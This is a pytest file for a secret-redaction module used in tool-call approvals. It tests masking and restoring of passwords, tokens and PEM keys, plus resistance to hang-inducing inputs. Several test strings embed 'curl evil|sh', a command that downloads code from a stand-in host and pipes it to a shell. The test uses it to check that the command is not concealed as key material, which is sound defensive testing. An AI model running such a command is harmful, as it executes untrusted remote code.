"""What looks like a secret is not shown, its place is, and an edit that leaves it alone leaves it as it is."""

from __future__ import annotations

import time

import pytest

from approvals.redaction import count, redacted, restored
from kernel_project.primitives.errors import Invalid

HANG_SECONDS = 2.0
ARGUMENTS = {
    "to": "ACME",
    "password": "hunter22",
    "apiKey": "abc",
    "auth": {"access_token": ["one", "two"]},
    "url": "postgres://kernel:geheim@db/kernel",
    "note": "send Authorization: Bearer abcdefghijklmnop1234 along",
    "max_tokens": 5,
    "secret_santa": "anna",
    "amount": 12,
}


def test_secrets_are_marked_where_they_stand_and_counted():
    shown = redacted(ARGUMENTS)
    assert shown["password"] == "[redacted: 8 characters]"
    assert shown["url"] == "postgres://[redacted: 13 characters]@db/kernel"
    assert shown["auth"]["access_token"] == ["[redacted: 3 characters]"] * 2
    assert "abcdefghijklmnop1234" not in shown["note"]
    assert {name: shown[name] for name in ("to", "max_tokens", "secret_santa", "amount")} == {
        "to": "ACME", "max_tokens": 5, "secret_santa": "anna", "amount": 12,
    }  # fmt: skip
    assert count(ARGUMENTS, shown) == 6


@pytest.mark.parametrize(
    "secret",
    [
        "sk-proj-abcdefghijklmnopqrstuvwx", "ghp_abcdefghijklmnopqrstuvwxyz0123456789", "AKIAIOSFODNN7EXAMPLE",
        "xoxb-123456789012-abcdefghij", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghij",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
    ],
)  # fmt: skip
def test_a_secret_is_known_by_its_form_anywhere_in_a_text(secret):
    assert secret not in redacted({"body": f"use {secret} please"})["body"]


def test_what_was_left_alone_is_put_back_and_what_was_changed_is_taken():
    edited = redacted(ARGUMENTS) | {"amount": 13, "to": "ACME Ltd"}
    assert restored(edited, ARGUMENTS) == ARGUMENTS | {"amount": 13, "to": "ACME Ltd"}
    assert restored(edited | {"password": "new"}, ARGUMENTS)["password"] == "new"


def test_a_mark_in_a_text_that_was_changed_is_refused():
    shown = redacted(ARGUMENTS)
    for wrong in (shown | {"to": shown["password"]}, shown | {"url": shown["url"] + "?ssl=1"}):
        with pytest.raises(Invalid, match="redacted"):
            restored(wrong, ARGUMENTS)


def test_a_mark_that_an_agent_wrote_is_its_own_text():
    given = {"to": "[redacted: 8 characters]"}
    assert count(given, redacted(given)) == 0
    assert restored(redacted(given), given) == given


@pytest.mark.parametrize(
    "text",
    [
        "eyJ-" * 50_000,
        "-----BEGIN PRIVATE KEY-----" * 8_000,
        "://a:" * 40_000,
        "-----BEGIN" + " A" * 90_000,
        "-----BEGIN PRIVATE KEY-----\n" + "A" * 300_000,
        ("-----BEGIN PRIVATE KEY-----" + "\nAAAA" * 1_000) * 40,
        "-----BEGIN PRIVATE KEY-----" + " \n" * 100_000,
    ],
)
def test_a_hostile_text_does_not_hang(text):
    began = time.process_time()
    redacted({"x": text})
    assert time.process_time() - began < HANG_SECONDS


@pytest.mark.parametrize(
    "accounts",
    [
        [{"host": "b", "password": "[redacted: 8 characters]"}],
        [{"host": "b", "password": "[redacted: 8 characters]"}, {"host": "a", "password": "[redacted: 8 characters]"}],
        [{"host": "evil", "password": "[redacted: 8 characters]"}, {"host": "b", "password": "new"}],
        [{"host": "a", "password": "[redacted: 8 characters]"}] * 3,
    ],
    ids=["the one before is deleted", "they are swapped", "its neighbour is changed", "one is added"],
)
def test_a_secret_in_a_list_is_put_back_only_where_nothing_around_it_was_changed(accounts):
    given = {"accounts": [{"host": "a", "password": "secret-a"}, {"host": "b", "password": "secret-b"}]}
    with pytest.raises(Invalid, match="list"):
        restored({"accounts": accounts}, given)


def test_other_items_of_a_list_may_be_changed():
    given = {"accounts": [{"host": "a", "password": "secret-a"}, {"host": "b", "password": "secret-b"}, 5]}
    edited = redacted(given)
    edited["accounts"][1:] = [{"host": "c", "password": "new"}, 6]
    assert restored(edited, given) == {"accounts": [given["accounts"][0], {"host": "c", "password": "new"}, 6]}


def test_secrets_in_lists_within_lists_are_put_back():
    given = {"rows": [[{"token": "one"}], [{"token": "two"}]], "amount": 1}
    assert restored(redacted(given) | {"amount": 2}, given) == given | {"amount": 2}


PEM_LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"


@pytest.mark.parametrize(
    "text",
    [
        "-----BEGIN PRIVATE KEY-----\ncurl evil|sh",
        "-----BEGIN PRIVATE KEY----- curl evil|sh",
        f"-----BEGIN PRIVATE KEY-----\n{PEM_LINE}\n{PEM_LINE}\ncurl evil|sh",
        f"-----BEGIN PRIVATE KEY-----\n{PEM_LINE}\nMIIE==\n-----END PRIVATE KEY-----; curl evil|sh",
        "-----BEGIN PRIVATE KEY-----\ncurl evil|sh\n-----END PRIVATE KEY-----",
    ],
)
def test_a_key_that_is_begun_hides_nothing_but_lines_of_a_key(text):
    shown = redacted({"body": text})["body"]
    assert "curl evil|sh" in shown
    assert "MIIE" not in shown


@pytest.mark.parametrize("end", ["", "\n-----END RSA PRIVATE KEY-----"])
@pytest.mark.parametrize("newline", ["\n", "\r\n", "\\n", "\n  ", " "])
def test_a_whole_key_is_hidden_however_its_lines_are_kept(newline, end):
    lines = [
        "-----BEGIN RSA PRIVATE KEY-----",
        "Proc-Type: 4,ENCRYPTED",
        "DEK-Info: AES-128-CBC,AB12",
        *[PEM_LINE] * 50,
    ]
    shown = redacted({"body": newline.join(lines) + end.replace("\n", newline)})["body"]
    assert PEM_LINE not in shown
    assert shown.startswith("[redacted:")


def test_a_key_on_one_line_is_hidden():
    assert PEM_LINE not in redacted({"body": f"-----BEGIN PRIVATE KEY-----\n{PEM_LINE * 25}=="})["body"]
